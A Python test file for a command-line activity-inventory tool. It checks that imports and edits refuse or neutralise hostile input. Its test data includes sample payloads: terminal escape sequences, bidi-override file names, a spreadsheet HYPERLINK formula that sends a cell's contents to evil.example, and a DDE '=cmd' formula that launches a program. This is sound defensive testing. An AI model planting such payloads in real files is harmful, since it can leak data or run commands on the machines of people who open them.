"""One gate for every way in, and output that cannot be turned against its reader: the
reliability review's F1, F7, F8 and parts of F13/F15, and the CLI review's D46, D47, D50.

Each test reproduces the review's case (reviews/reliability-bbbeccd.md); the activities
named are the newsletter's (e.g. xa9w55j8, "INTERPOL Malware Analysis Training, LYON,
FRANCE, 4-8 November", line 476 of the 2019-Q4 issue)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.helpers import BUNDLED_STORE
from tests.safety import cli, command, copy_store, run

DECEMBER = {
    "text": "3-5 December 2019",
    "month": "2019-12",
    "precision": "day",
    "certainty": "confirmed",
    "deadline": False,
    "year_inferred": False,
    "segments": [
        {"start": "2019-12-03", "end": "2019-12-05", "start_half": None, "end_half": None}
    ],
}


def record(**changes: Any) -> dict[str, Any]:
    """The review's F1 record, with some fields changed."""
    base = {
        "id": "hugefld0",
        "projects": ["GLACY+"],
        "title": "Huge modality",
        "modality": None,
        "place": None,
        "schedule": DECEMBER,
        "status": "planned",
        "extra": {},
    }
    return {**base, **changes}


def listed(store: Path, *args: str) -> list[dict[str, Any]]:
    result = cli("list", "--json", *args, store=store)
    assert result.exit_code == 0, result.stderr
    assert result.stderr == ""  # no row skipped with a warning
    data: list[dict[str, Any]] = json.loads(result.stdout)
    return data


def assert_still_writable(store: Path) -> None:
    """The review's symptom: after the import, every add was refused."""
    added = cli("add", "-p", "GLACY+", "-t", "Later add", "--dates", "4 December 2019", store=store)
    assert added.exit_code == 0, added.stderr
    assert "Later add" in {a["title"] for a in listed(store)}


# --- F1: what an import accepts, the store can read and write ------------------------------

F1_RECORDS = {
    "modality-140000": (record(modality="M" * 140_000), "modality", "140,000 characters"),
    "city-140000": (
        record(place={"text": "X", "city": "C" * 140_000, "countries": []}),
        "place.city",
        "140,000 characters",
    ),
    "location-140000": (
        record(place={"text": "T" * 140_000, "city": None, "countries": []}),
        "place.text",
        "140,000 characters",
    ),
    "extra-140000": (record(extra={"notes": "N" * 140_000}), "extra field 'notes'", "140,000"),
    "country-ZZ": (
        record(place={"text": "X", "city": None, "countries": [{"code": "ZZ", "name": "No"}]}),
        "place.countries",
        "unknown country code 'ZZ'",
    ),
    "extra-status": (record(extra={"status": "exploded"}), "(record 1)", "overwrite the status"),
    "extra-duplicate-id": (record(extra={"id": "xa9w55j8"}), "(record 1)", "overwrite the id"),
    "extra-shadow": (
        record(id="typeok01", title="Types", extra={"title": "shadow", "id": "zzzzzzzz"}),
        "(record 1)",
        "overwrite the title column",
    ),
    "status-exploded": (record(status="exploded"), "status", "'planned', 'held'"),
    # F15: the text said 1990, the segments December 2019; a CSV store kept the text's dates.
    "text-disagrees": (
        record(schedule={**DECEMBER, "text": "1 January 1990"}),
        "schedule.text",
        "says 1 January 1990, but the segments say 3-5 December 2019",
    ),
}


@pytest.mark.parametrize("kind", ["csv", "db", "json"])
@pytest.mark.parametrize("case", list(F1_RECORDS))
def test_an_import_that_the_store_could_not_read_back_is_refused(
    tmp_path: Path, case: str, kind: str
) -> None:
    bad, field, reason = F1_RECORDS[case]
    store = tmp_path / f"s.{kind}"
    assert cli("import", str(BUNDLED_STORE), store=store).exit_code == 0
    before = store.read_bytes()
    source = tmp_path / "huge.json"
    source.write_text(json.dumps([bad]))
    result = cli("import", str(source), store=store)
    assert result.exit_code == 1
    assert field in result.stderr and reason in result.stderr
    assert "nothing written" in result.stderr
    assert len(result.stderr) < 2000  # the 140,000 characters are not printed back
    assert store.read_bytes() == before
    assert len(listed(store)) == 132
    assert_still_writable(store)


def test_a_round_trip_through_a_json_store_into_a_csv_store_refuses_what_it_cannot_read_back(
    tmp_path: Path,
) -> None:
    # README: list --json | import - --store other.csv. A JSON store kept every F1 record
    # without complaint, so the round trip could also write an unreadable CSV store.
    other = tmp_path / "other.json"
    assert cli("import", str(BUNDLED_STORE), store=other).exit_code == 0
    source = tmp_path / "shadow.json"
    source.write_text(json.dumps([F1_RECORDS["extra-shadow"][0]]))
    assert cli("import", str(source), store=other).exit_code == 1
    exported = cli("list", "--json", store=other).stdout
    target = tmp_path / "other.csv"
    assert cli("import", "-", store=target, input=exported).exit_code == 0
    assert {a["id"] for a in listed(target)} == {a["id"] for a in listed(BUNDLED_STORE)}
    assert_still_writable(target)


def test_a_duplicate_id_within_one_import_is_refused_with_its_position(tmp_path: Path) -> None:
    store = copy_store(tmp_path)
    source = tmp_path / "twice.json"
    source.write_text(json.dumps([record(), record(title="Other title")]))
    result = cli("import", str(source), store=store)
    assert result.exit_code == 1
    assert "(record 2): error: id: duplicate id 'hugefld0'" in result.stderr
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


def test_a_differing_record_with_a_known_id_is_not_dropped_silently(tmp_path: Path) -> None:
    # The review: counted as "1 already there", its new title and dates dropped without a
    # word. Import now reconciles: the record updates the activity, and says so.
    store = copy_store(tmp_path)
    [lyon] = listed(BUNDLED_STORE, "--search", "INTERPOL Malware")
    assert lyon["id"] == "xa9w55j8"
    changed = {**lyon, "title": "INTERPOL Malware Analysis Training (renamed)"}
    result = cli("import", "-", store=store, input=json.dumps([changed]))
    assert result.exit_code == 0
    assert "xa9w55j8" in result.stdout and "(renamed)" in result.stdout
    assert "updated 1" in result.stderr
    [after] = listed(store, "--search", "INTERPOL Malware")
    assert after["title"] == "INTERPOL Malware Analysis Training (renamed)"


# --- F8, D50: control characters, bidi overrides and zero-width spaces, every way in -------

HOSTILE = {
    "ESC": "\x1b]0;pwned\x07\x1b[31mRED",
    "BEL": "ring\x07",
    "NUL": "nul\x00here",
    "RLO": "evil\u202etxt.exe",
    "ZWSP": "zero\u200bwidth",
    "C1": "csi\x9b31m",
}


@pytest.mark.parametrize("option", ["--title", "--modality", "--location", "--dates"])
@pytest.mark.parametrize("name", list(HOSTILE))
def test_add_refuses_hidden_characters_in_every_field(
    tmp_path: Path, option: str, name: str
) -> None:
    store = copy_store(tmp_path)
    fields = {"--title": "Control probe", "--dates": "3-5 December 2019"}
    fields[option] = f"Lyon {HOSTILE[name]}, France" if option == "--location" else HOSTILE[name]
    args = [arg for pair in fields.items() for arg in pair]
    result = cli("add", "-p", "GLACY+", *args, store=store)
    assert result.exit_code == 2, result.stdout  # a value typed on the command line
    assert f"invalid value for {option}: contains " in result.stderr
    assert "expected plain text" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


def test_edit_refuses_an_escape_in_the_modality(tmp_path: Path) -> None:
    store = copy_store(tmp_path)
    result = cli("edit", "xa9w", "--modality", HOSTILE["ESC"], store=store)
    assert result.exit_code == 2
    assert "--modality: contains an escape character (ESC); expected plain text" in result.stderr
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


@pytest.mark.parametrize("column", ["modality", "city", "location", "title", "projects"])
def test_a_csv_import_refuses_hidden_characters(tmp_path: Path, column: str) -> None:
    rows = list(csv.reader(io.StringIO(BUNDLED_STORE.read_text(encoding="utf-8"))))
    header = rows[0]
    lyon = dict(zip(header, rows[30], strict=True))
    assert lyon["id"] == "xa9w55j8"
    lyon[column] = "Ly\x1b[31mon"
    source = tmp_path / "in.csv"
    with source.open("w", newline="") as handle:
        csv.writer(handle).writerows([header, [lyon[h] for h in header]])
    store = tmp_path / "new.csv"
    result = cli("import", str(source), store=store)
    assert result.exit_code == 1
    assert "in.csv:2: error:" in result.stderr and "escape character (ESC)" in result.stderr
    assert "\x1b" not in result.stderr
    assert not store.exists()


@pytest.mark.parametrize(
    "place",
    [
        {"text": "Lyon, France", "city": "Ly\x1b[31mon", "countries": [{"code": "FR"}]},
        {"text": "Ly\x07on, France", "city": "Lyon", "countries": [{"code": "FR"}]},
    ],
)
def test_a_json_import_refuses_hidden_characters_in_the_place(
    tmp_path: Path, place: dict[str, Any]
) -> None:
    store = copy_store(tmp_path)
    result = cli("import", "-", store=store, input=json.dumps([record(place=place)]))
    assert result.exit_code == 1 and "expected plain text" in result.stderr
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


def test_a_country_name_is_the_code_s_not_the_record_s(tmp_path: Path) -> None:
    # The review saw an ESC in a country's name imported as it was; the name comes from the
    # ISO code, so the record's own name never reaches the store.
    store = copy_store(tmp_path)
    place = {"text": "Lyon, France", "city": "Lyon", "countries": [{"code": "FR", "name": "\x1b"}]}
    assert cli("import", "-", store=store, input=json.dumps([record(place=place)])).exit_code == 0
    [added] = listed(store, "--search", "Huge modality")
    assert added["place"]["countries"] == [{"code": "FR", "name": "France"}]


def test_a_newsletter_line_with_an_escape_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "n.txt"
    source.write_text("OCTOBER 2019\nGLACY+\tBad \x1b]0;x\x07 title, Lyon, France, 1-2 October\n")
    result = cli("import", str(source), store=tmp_path / "s.csv")
    assert result.exit_code == 1
    assert "n.txt:2: error: title: contains an escape character (ESC)" in result.stderr
    assert "Value error" not in result.stderr  # D47: pydantic's words


@pytest.mark.slow
def test_a_hand_edited_escape_is_refused_and_never_printed_raw(tmp_path: Path) -> None:
    # Someone typed an escape sequence into the store in an editor: the row is left out with a
    # warning, and no output, messages included, carries the raw escape to the terminal.
    store = copy_store(tmp_path)
    text = store.read_text(encoding="utf-8")
    store.write_text(text.replace("LYON, FRANCE", "LY\x1b]0;pwned\x07ON, FRANCE"))
    for args in (
        ["list"],
        ["list", "--format", "text"],
        ["list", "--format", "markdown"],
        ["list", "--format", "csv"],
        ["show", "38z0"],
        ["export"],
        ["validate"],
        ["report", "--quarter", "Q4-2019"],
    ):
        result = run(*args, store=store)
        assert b"\x1b" not in result.stdout + result.stderr, args
        assert b"\x07" not in result.stdout + result.stderr, args
        assert b"Traceback" not in result.stderr, args
    result = run("validate", store=store)
    assert result.returncode == 1
    # The newsletter's line 476, the store's line 31.
    assert b":31: error: location: contains an escape character (ESC)" in result.stdout


def test_a_title_with_a_bidi_override_or_zero_width_space_is_refused(tmp_path: Path) -> None:
    store = copy_store(tmp_path)
    for title in ("Report\u202ecod.exe", "Zero\u200bwidth"):
        result = cli("add", "-p", "GLACY+", "-t", title, "--dates", "2 May 2020", store=store)
        assert result.exit_code == 2 and "expected plain text" in result.stderr
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


# --- F7, D50: CSV injection --------------------------------------------------------------

HYPERLINK_COLUMN = '=HYPERLINK("http://evil.example/?x="&A1;"click")'


def test_a_column_named_like_a_formula_is_neutralised_in_exports_and_in_the_store(
    tmp_path: Path,
) -> None:
    source = tmp_path / "hostile.csv"
    source.write_text(
        "id,projects,title,modality,city,countries,location,dates,month,"
        f'"{HYPERLINK_COLUMN.replace(chr(34), chr(34) * 2)}",notes\n'
        'aaaa2222,GLACY+,Second,,Lyon,FR,"Lyon, France",4 December 2019,2019-12,+7,x\n'
    )
    store = tmp_path / "b.csv"
    assert cli("import", str(source), store=store).exit_code == 0
    exported = cli("list", "--format", "csv", store=store).stdout
    header, row = list(csv.reader(io.StringIO(exported)))
    assert "'" + HYPERLINK_COLUMN in header and HYPERLINK_COLUMN not in header
    assert row[header.index("'" + HYPERLINK_COLUMN)] == "'+7"
    # The store, which people open in a spreadsheet, is written the same way ...
    stored_header = next(csv.reader(io.StringIO(store.read_text())))
    assert "'" + HYPERLINK_COLUMN in stored_header
    # ... and both read back as they were named, so the column survives every round trip.
    [activity] = listed(store)
    assert activity["extra"] == {HYPERLINK_COLUMN: "+7", "notes": "x"}
    again = tmp_path / "again.csv"
    assert cli("import", "-", store=again, input=exported).exit_code == 0
    assert listed(again)[0]["extra"] == {HYPERLINK_COLUMN: "+7", "notes": "x"}


def test_projects_as_csv_are_neutralised(tmp_path: Path) -> None:
    store = copy_store(tmp_path)
    projects = (Path(__file__).parent.parent / "data" / "projects.csv").read_text()
    (tmp_path / "projects.csv").write_text(
        projects + '"=HYPERLINK(""http://evil"",""p"")",,project,2019-01,2020-12,,100,EUR,,FR,,\n'
    )
    result = cli("projects", "--format", "csv", store=store)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    names = [r[0] for r in rows]
    assert '\'=HYPERLINK("http://evil","p")' in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    "title", ["=2+2", "+1+1 workshop", "-5 priorities", "@SUM(A1)", "=cmd|' /C calc'!A0"]
)
def test_formula_titles_are_stored_neutralised_and_round_trip_without_the_mark(
    tmp_path: Path, title: str
) -> None:
    store = copy_store(tmp_path)
    assert (
        cli("add", "-p", "GLACY+", "-t", title, "--dates", "2 May 2020", store=store).exit_code == 0
    )
    stored = {r[2] for r in csv.reader(io.StringIO(store.read_text(encoding="utf-8")))}
    assert "'" + title in stored and title not in stored
    [added] = listed(store, "--month", "2020-05")
    assert added["title"] == title
    # F15: list --format csv | import - kept the neutralising quote as part of the title.
    exported = cli("list", "--format", "csv", "--month", "2020-05", store=store).stdout
    other = tmp_path / "other.csv"
    assert cli("import", "-", store=other, input=exported).exit_code == 0
    assert [a["title"] for a in listed(other)] == [title]


def test_a_newsletter_formula_is_neutralised_in_the_store(tmp_path: Path) -> None:
    source = tmp_path / "n.txt"
    source.write_text(
        'OCTOBER 2019\nGLACY+\t=HYPERLINK("http://evil.example","click"), Lyon, France, '
        "1-2 October\n"
    )
    store = tmp_path / "s.csv"
    assert cli("import", str(source), store=store).exit_code == 0
    cells = list(csv.reader(io.StringIO(store.read_text())))[1]
    assert cells[2] == '\'=HYPERLINK("http://evil.example","click")'


# --- F15: a CSV import with a column named twice -------------------------------------------


def test_a_column_named_twice_is_refused_not_the_last_one_kept(tmp_path: Path) -> None:
    source = tmp_path / "twice.csv"
    source.write_text(
        "id,projects,title,dates,month,title\n"
        "aaaa2222,GLACY+,First title,4 December 2019,2019-12,Second title\n"
    )
    result = cli("import", str(source), store=tmp_path / "s.csv")
    assert result.exit_code == 1
    assert "twice.csv:1: the column 'title' appears twice" in result.stderr
    assert not (tmp_path / "s.csv").exists()


# --- Rich markup in the data is text, not markup ------------------------------------------


@pytest.mark.parametrize("title", ["Close [/bold] tag", "[link=http://evil.example]Click[/link]"])
def test_a_title_that_looks_like_rich_markup_is_shown_as_written(
    tmp_path: Path, title: str
) -> None:
    # Found in this review: '[/bold]' crashed every table after the add that stored it, and
    # '[link=...]' drew a hyperlink on a terminal.
    from inventory.formats import Format, Listing, Output, write
    from inventory.store import open_store

    store = copy_store(tmp_path)
    added = cli("add", "-p", "GLACY+", "-t", title, "--dates", "2 May 2020", store=store)
    assert added.exit_code == 0, added.stderr
    assert title in added.stdout
    result = cli("list", "--month", "2020-05", store=store)
    assert result.exit_code == 0 and title in result.stdout

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    with open_store(str(store)) as opened:
        write(Listing(opened.select()[-1:]), Format.TABLE, Output(screen, width=200))
    assert "\x1b]8;" not in screen.getvalue()  # no OSC 8 hyperlink
    assert title in screen.getvalue().replace("\x1b[2m", "").replace("\x1b[0m", "")


# --- D46, D47: oversized input and plain words ---------------------------------------------

BIG = "A" * 120_000


@pytest.mark.parametrize(
    ("option", "cap"),
    [
        ("--location", "at most 500"),
        ("--modality", "at most 200"),
        ("--title", "at most 1,000"),
        ("--dates", "at most 200"),
        ("--project", "at most 200"),
    ],
)
def test_every_typed_field_has_a_cap_and_the_error_is_short(
    tmp_path: Path, option: str, cap: str
) -> None:
    store = copy_store(tmp_path)
    fields = {"--project": "GLACY+", "--title": "ok", "--dates": "1 May 2020", option: BIG}
    result = cli("add", *[a for pair in fields.items() for a in pair], store=store)
    assert result.exit_code == 2  # a value typed on the command line
    assert "120,000 characters long" in result.stderr and cap in result.stderr
    assert len(result.stderr) < 400
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


def test_an_empty_id_cell_in_the_store_is_said_in_plain_words(tmp_path: Path) -> None:
    store = copy_store(tmp_path)
    lines = store.read_text(encoding="utf-8").splitlines()
    lines[1] = "," + lines[1].split(",", 1)[1]
    store.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = cli("validate", store=store)
    assert result.exit_code == 1
    assert "activities.csv:2: error: id: is empty; expected 4 to 16 lower-case" in result.stdout
    assert "pattern" not in result.stdout + result.stderr


def test_a_cell_over_the_csv_limit_in_an_import_is_one_line(tmp_path: Path) -> None:
    source = tmp_path / "big.csv"
    source.write_text(
        "id,projects,title,dates,month\nabcd1234,GLACY+," + "T" * 200_000 + ",1-2 October,2019-10\n"
    )
    result = cli("import", str(source), store=tmp_path / "s.csv")
    assert result.exit_code == 1
    assert "big.csv:2: broken row: a cell is over 131,072 characters long" in result.stderr
    assert "field limit" not in result.stderr


def test_a_month_of_the_wrong_form_in_a_json_record_is_one_line(tmp_path: Path) -> None:
    bad = record(schedule={**DECEMBER, "month": "2019-13"})
    result = cli("import", "-", store=tmp_path / "s.csv", input=json.dumps([bad]))
    assert result.exit_code == 1
    assert "schedule.month: is '2019-13'; expected the month as YYYY-MM" in result.stderr
    assert "pattern" not in result.stderr


def test_a_one_megabyte_title_in_an_import_is_one_line_with_the_cap(tmp_path: Path) -> None:
    result = cli("import", "-", store=tmp_path / "s.csv", input=json.dumps([record(title=BIG * 9)]))
    assert result.exit_code == 1
    assert "(record 1): error: title: is 1,080,000 characters long; at most 1,000" in result.stderr
    assert "Value error" not in result.stderr


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["list", "--country", b"T\xfcrkiye"], "--country"),
        (["list", "--search", b"caf\xe9"], "--search"),
        (["list", "-p", b"GLAC\xff"], "--project"),
        (["add", "-p", "GLACY+", "-t", b"Caf\xe9", "--dates", "2 May 2020"], "--title"),
        (["import", b"caf\xe9.csv"], "FILE"),
    ],
)
def test_an_argument_that_is_not_utf8_is_one_line_naming_it(
    tmp_path: Path, args: list[str | bytes], option: str
) -> None:
    # A Latin-1 terminal: the bytes reach Python as lone surrogates, which crashed SQLite
    # (--search), the history (add) and the messages.
    store = copy_store(tmp_path)
    argv = [*(a if isinstance(a, bytes) else a.encode() for a in [*command(), *args])]
    argv += [b"--store", os.fsencode(store)]
    result = subprocess.run(argv, capture_output=True, timeout=120, check=False, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    [line] = result.stderr.decode().splitlines()
    assert line.startswith(f"inventory: error: invalid value for {option}: ")
    assert "is not UTF-8" in line and "expected UTF-8 text" in line
    assert store.read_bytes() == BUNDLED_STORE.read_bytes()


def test_export_to_an_empty_name_is_a_usage_error(tmp_path: Path) -> None:
    result = cli("export", "-o", "", store=copy_store(tmp_path))
    assert result.exit_code == 2
    assert "--output: is empty; expected a file name" in result.stderr
    assert "Device or resource busy" not in result.stderr


def test_a_limit_beyond_any_integer_means_no_limit() -> None:
    result = cli("list", "--json", "--limit", "9" * 30, store=BUNDLED_STORE)
    assert result.exit_code == 0, result.stderr
    assert len(json.loads(result.stdout)) == 132


@pytest.mark.parametrize(
    "args", [["calendar", "--month", "9999-12"], ["calendar", "--year", "9999"]]
)
def test_the_last_month_there_is_has_a_calendar(args: list[str]) -> None:
    # Its grid's last week ran into the year 10000: a traceback.
    result = cli(*args, store=BUNDLED_STORE)
    assert result.exit_code == 0, result.stderr
    assert "December 9999" in result.stdout


@given(st.lists(st.sampled_from(["a", "b", ",", '"', "\n", "\r", "\r\n", "\u2028", "\x0c"])))
def test_rows_are_cut_where_the_csv_module_cuts_them(pieces: list[str]) -> None:
    text = "".join(pieces)
    # The CSV readers feed csv.reader through csvdoc.Recorder, not io.StringIO (which copies
    # the text at four bytes a character): the lines must be the same.
    from inventory.textio import Recorder

    assert list(Recorder(text)) == list(io.StringIO(text, newline=""))
    assert list(Recorder(text, keep=False)) == list(io.StringIO(text, newline=""))
